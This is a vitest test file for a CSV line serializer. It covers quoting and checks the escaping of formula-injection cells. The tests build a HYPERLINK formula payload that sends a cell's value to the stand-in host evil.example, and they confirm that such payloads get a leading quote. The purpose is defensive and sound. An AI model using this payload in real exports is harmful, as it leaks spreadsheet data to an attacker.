import { describe, expect, it } from 'vitest';
import { FORMULA_STARTS, csvLine } from './csv.ts';

it('quotes only fields that need it, doubling quotes, with CRLF line ends', () => {
  expect(csvLine(['a', 1.5, null, 'x,y', 'say "hi"', 'two\nlines', '2024-01-31'])).toBe('a,1.5,,"x,y","say ""hi""","two\nlines",2024-01-31\r\n');
  expect(csvLine([{ k: 1 }, true])).toBe('"{""k"":1}",true\r\n');
});

describe('CSV injection (OWASP)', () => {
  it('every formula-starting character of a text cell gets a leading single quote', () => {
    const payloads = FORMULA_STARTS.map((c) => `${c}HYPERLINK("http://evil.example/?x="&A1,"click")`);
    expect(payloads).toHaveLength(6);
    expect(csvLine(payloads)).toBe([
      `"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`,
      `"'+HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`,
      `"'-HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`,
      `"'@HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`,
      `"'\tHYPERLINK(""http://evil.example/?x=""&A1,""click"")"`,
      `"'\rHYPERLINK(""http://evil.example/?x=""&A1,""click"")"`,
    ].join(',') + '\r\n');
    expect(csvLine(['=1+1', '+1', '-1', '@SUM(A1)', '\t1', '\r1'])).toBe(`'=1+1,'+1,'-1,'@SUM(A1),'\t1,"'\r1"\r\n`);
  });

  it('numbers are never changed, negative ones included; harmless text is unchanged', () => {
    expect(csvLine([-12.5, -1, -0.017, 0, 1e-7, -1e21])).toBe('-12.5,-1,-0.017,0,1e-7,-1e+21\r\n');
    expect(csvLine(['a=b', 'x-1', ' =1', "'already"])).toBe(`a=b,x-1, =1,'already\r\n`);
  });
});
